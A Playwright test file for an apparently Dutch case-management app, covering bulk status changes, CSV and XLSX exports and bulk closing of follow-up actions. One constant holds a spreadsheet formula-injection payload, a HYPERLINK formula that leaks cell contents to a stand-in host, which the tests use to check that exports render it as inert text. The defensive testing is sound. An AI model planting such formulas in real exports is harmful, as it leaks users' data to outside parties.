import fs from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { expect, expectAccessible, test } from './support/fixtures';
import { createCaseFile, registerSignal } from './support/caseFileSteps';

const HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1;"Klik hier")';
const TITLES = ['Onrust bij het buurthuis', HOSTILE, 'Pamfletten bij de moskee', 'Rustige bijeenkomst'];

const menu = (page: Page) => page.getByRole('navigation', { name: 'Hoofdmenu' });

async function createAction(page: Page, description: string): Promise<void> {
  await menu(page).getByRole('button', { name: 'Acties' }).click();
  await page.getByRole('button', { name: 'Nieuwe vervolgactie' }).click();
  await page.getByLabel('Omschrijving').fill(description);
  await page.getByLabel('Soort actie').selectOption('advies');
  await page.keyboard.press('Control+Enter');
  await expect(page.getByRole('heading', { name: description, level: 1 })).toBeVisible();
}

/** Axe and a look at both screen sizes the app is made for. */
async function checkAtBothSizes(page: Page, name: string): Promise<void> {
  for (const [width, height] of [
    [1366, 768],
    [1920, 1080],
  ] as const) {
    await page.setViewportSize({ width, height });
    await expectAccessible(page);
    await page.screenshot({ path: path.join('/tmp/bulk-shots', `${name}-${width}x${height}.png`) });
  }
  await page.setViewportSize({ width: 1366, height: 768 });
}

/**
 * Ticks a row's box by keyboard. (With the mouse, a focused row grows to show
 * its full text, so the next row moves under the pointer between press and release.)
 */
async function tick(page: Page, name: string | RegExp): Promise<void> {
  const box = page.getByRole('checkbox', { name });
  await box.focus();
  await page.keyboard.press('Space');
  await expect(box).toBeChecked();
}

/** The list's rows as shown: number and title per row. */
async function shownRows(page: Page): Promise<string[][]> {
  const rows = page.getByRole('table', { name: 'Signalen' }).locator('tbody tr');
  const count = await rows.count();
  const shown: string[][] = [];
  for (let n = 0; n < count; n += 1) {
    const row = rows.nth(n);
    shown.push([(await row.locator('td').nth(1).innerText()).trim(), (await row.locator('td').nth(2).innerText()).trim()]);
  }
  return shown;
}

function xlsxRows(file: string): { rows: string[][]; formulas: number } {
  const zip = unzipSync(new Uint8Array(fs.readFileSync(file)));
  const sheet = strFromU8(zip['xl/worksheets/sheet1.xml']!);
  const unescape = (text: string) =>
    text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
  const textOf = (xml: string) => unescape([...xml.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) => m[1]).join(''));
  const shared = zip['xl/sharedStrings.xml'] ? [...strFromU8(zip['xl/sharedStrings.xml']).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => textOf(m[1]!)) : [];
  const rows = [...sheet.matchAll(/<row[^>]*>([\s\S]*?)<\/row>/g)].map((row) =>
    [...row[1]!.matchAll(/<c ([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map(([, attributes, body = '']) => {
      if (/t="s"/.test(attributes!)) return shared[Number(/<v>(.*?)<\/v>/.exec(body)![1])]!;
      if (/t="inlineStr"/.test(attributes!)) return textOf(body);
      return /<v>(.*?)<\/v>/.exec(body)?.[1] ?? '';
    }),
  );
  return { rows, formulas: (sheet.match(/<f[ >]/g) ?? []).length };
}

test('bulk status change of three signals, export of the filtered list to CSV and XLSX, and closing actions in bulk', async ({
  page,
  bridge,
  workDir,
}) => {
  test.setTimeout(180_000);
  await page.setViewportSize({ width: 1366, height: 768 });
  await createCaseFile(page, bridge, workDir, 'bulk.ess');
  for (const title of TITLES) await registerSignal(page, title, 'Zwolle');

  await menu(page).getByRole('button', { name: 'Signalen' }).click();
  await expect(page.getByRole('heading', { name: 'Signalen', level: 1 })).toBeVisible();
  const table = page.getByRole('table', { name: 'Signalen' });
  await expect(table.locator('tbody tr')).toHaveCount(4);
  // Sort by number, oldest first, so rows and file can be compared in order.
  const numberHeader = page.getByRole('columnheader', { name: 'Nummer' });
  await numberHeader.getByRole('button').click();
  await expect(numberHeader).toHaveAttribute('aria-sort', 'ascending');
  const numbers = (await shownRows(page)).map(([number]) => number!);

  // Select the first three: the selection bar offers the bulk actions.
  for (const number of numbers.slice(0, 3)) await tick(page, `${number} selecteren`);
  const bar = page.getByRole('region', { name: 'Selectie' });
  await expect(bar).toContainText('3 signalen geselecteerd');
  await bar.getByRole('button', { name: 'Status wijzigen…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Status wijzigen' });
  await dialog.getByLabel('Nieuwe status').selectOption({ label: 'In duiding' });
  await expect(dialog).toContainText('3 signalen krijgen status ‘In duiding’.');
  await checkAtBothSizes(page, 'signals-status-dialog');
  await dialog.getByRole('button', { name: 'Doorvoeren' }).click();
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('status').filter({ hasText: '3 signalen gewijzigd.' })).toBeVisible();
  for (const n of [0, 1, 2]) await expect(table.locator('tbody tr').nth(n)).toContainText('In duiding');
  await expect(table.locator('tbody tr').nth(3)).toContainText('Nieuw');

  // The history of one of them shows the change.
  await table.locator('tbody tr').first().getByRole('button', { name: numbers[0] }).click();
  const history = page.getByRole('region', { name: 'Geschiedenis' });
  await expect(history).toContainText('In duiding');
  await page.getByRole('button', { name: '← Terug' }).click();

  // Filter on status In duiding: the export takes this list, all its rows, in this order.
  await page.getByRole('button', { name: /^Filters/ }).click();
  await page.getByRole('group', { name: 'Status' }).getByRole('checkbox', { name: 'In duiding' }).check();
  await expect(table.locator('tbody tr')).toHaveCount(3);
  const shown = await shownRows(page);

  bridge.dialogs.next = path.join(workDir, 'signalen.csv');
  await page.getByRole('button', { name: 'Exporteren' }).click();
  await page.getByRole('button', { name: 'CSV (Excel, puntkomma)' }).click();
  await expect(page.getByRole('status').filter({ hasText: '3 rijen geëxporteerd naar signalen.csv.' })).toBeVisible();
  const csv = fs.readFileSync(path.join(workDir, 'signalen.csv'), 'utf8');
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const records = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
  expect(records[0]!.slice(0, 2)).toEqual(['Nummer', 'Titel']);
  // The same rows as the list; the hostile title comes out as text (a leading quote), never a formula.
  expect(records.slice(1).map((record) => [record[0], record[1]!.replace(/^'(?==)/, '')])).toEqual(shown);
  expect(records.slice(1).map((record) => record[1])).toContain(`'${HOSTILE}`);
  expect(records.slice(1).every((record) => record.includes('In duiding'))).toBe(true);

  bridge.dialogs.next = path.join(workDir, 'signalen.xlsx');
  await page.getByRole('button', { name: 'Exporteren' }).click();
  await checkAtBothSizes(page, 'signals-export-menu');
  await page.getByRole('button', { name: 'Excel-werkmap (.xlsx)' }).click();
  await expect(page.getByRole('status').filter({ hasText: '3 rijen geëxporteerd naar signalen.xlsx.' })).toBeVisible();
  const sheet = xlsxRows(path.join(workDir, 'signalen.xlsx'));
  expect(sheet.formulas).toBe(0);
  expect(sheet.rows[0]!.slice(0, 2)).toEqual(['Nummer', 'Titel']);
  expect(sheet.rows.slice(1).map((row) => [row[0], row[1]])).toEqual(shown);

  // Follow-up actions: select two, close them as done.
  await createAction(page, 'Wijkagent terugbellen');
  await createAction(page, 'Burgemeester informeren');
  await menu(page).getByRole('button', { name: 'Acties' }).click();
  await page.getByRole('navigation', { name: 'Weergaven' }).getByRole('button', { name: 'Alle acties' }).click();
  const actions = page.getByRole('table', { name: 'Alle acties' });
  await expect(actions.locator('tbody tr')).toHaveCount(2);
  await tick(page, /ACT-\d{4}-0001 selecteren/);
  await tick(page, /ACT-\d{4}-0002 selecteren/);
  const actionBar = page.getByRole('region', { name: 'Geselecteerde vervolgacties' });
  await expect(actionBar).toContainText('2 vervolgacties geselecteerd');
  await actionBar.getByRole('button', { name: 'Afsluiten…' }).click();
  const closeDialog = page.getByRole('dialog', { name: 'Vervolgacties afsluiten' });
  await expect(closeDialog).toContainText('2 vervolgacties worden afgerond, met vandaag als datum van afronding.');
  await closeDialog.getByLabel(/^Resultaat/).fill('Besproken in het teamoverleg.');
  await checkAtBothSizes(page, 'actions-close-dialog');
  await closeDialog.getByRole('button', { name: 'Doorvoeren' }).click();
  await expect(page.getByRole('status').filter({ hasText: '2 vervolgacties gewijzigd.' })).toBeVisible();
  await expect(actions.locator('tbody tr').filter({ hasText: 'Afgerond' })).toHaveCount(2);
  await checkAtBothSizes(page, 'actions-list-after');
});

test('every list exports what it shows: cases, contact moments, organisations and contact persons', async ({ page, bridge, workDir }) => {
  test.setTimeout(120_000);
  await page.setViewportSize({ width: 1366, height: 768 });
  await page.getByRole('button', { name: 'Demobestand openen' }).click();
  await expect(page.getByText('Aan het werk: Sanne de Vries')).toBeVisible();
  const lists = [
    { open: () => menu(page).getByRole('button', { name: 'Casussen' }).click(), heading: 'Casussen', file: 'casussen', header: 'Nummer' },
    { open: () => menu(page).getByRole('button', { name: 'Contactmomenten' }).click(), heading: 'Contactmomenten', file: 'contactmomenten', header: 'Nummer' },
    { open: () => page.getByRole('navigation', { name: 'Onderdelen van het netwerk' }).getByRole('button', { name: 'Organisaties' }).click(), heading: 'Organisaties', file: 'organisaties', header: 'Naam' },
    { open: () => page.getByRole('navigation', { name: 'Onderdelen van het netwerk' }).getByRole('button', { name: 'Contactpersonen' }).click(), heading: 'Contactpersonen', file: 'personen', header: 'Naam' },
  ];
  for (const list of lists) {
    if (list.heading === 'Organisaties') await menu(page).getByRole('button', { name: 'Netwerk' }).click();
    await list.open();
    await expect(page.getByRole('heading', { name: list.heading, level: 1 })).toBeVisible();
    // The count the list shows ("1–50 van 123") is what the file must hold, not one page.
    const range = await page.getByText(/^1–\d+ van [\d.]+$/).first().innerText();
    const total = Number(range.split(' van ')[1]!.replace(/\./g, ''));
    bridge.dialogs.next = path.join(workDir, `${list.file}.xlsx`);
    await page.getByRole('button', { name: 'Exporteren' }).click();
    await page.getByRole('button', { name: 'Excel-werkmap (.xlsx)' }).click();
    await expect(page.getByRole('status').filter({ hasText: `geëxporteerd naar ${list.file}.xlsx` })).toBeVisible();
    const sheet = xlsxRows(path.join(workDir, `${list.file}.xlsx`));
    expect(sheet.rows[0]![0]).toBe(list.header);
    expect(sheet.rows.length - 1).toBe(total);
    await expectAccessible(page);
  }
});
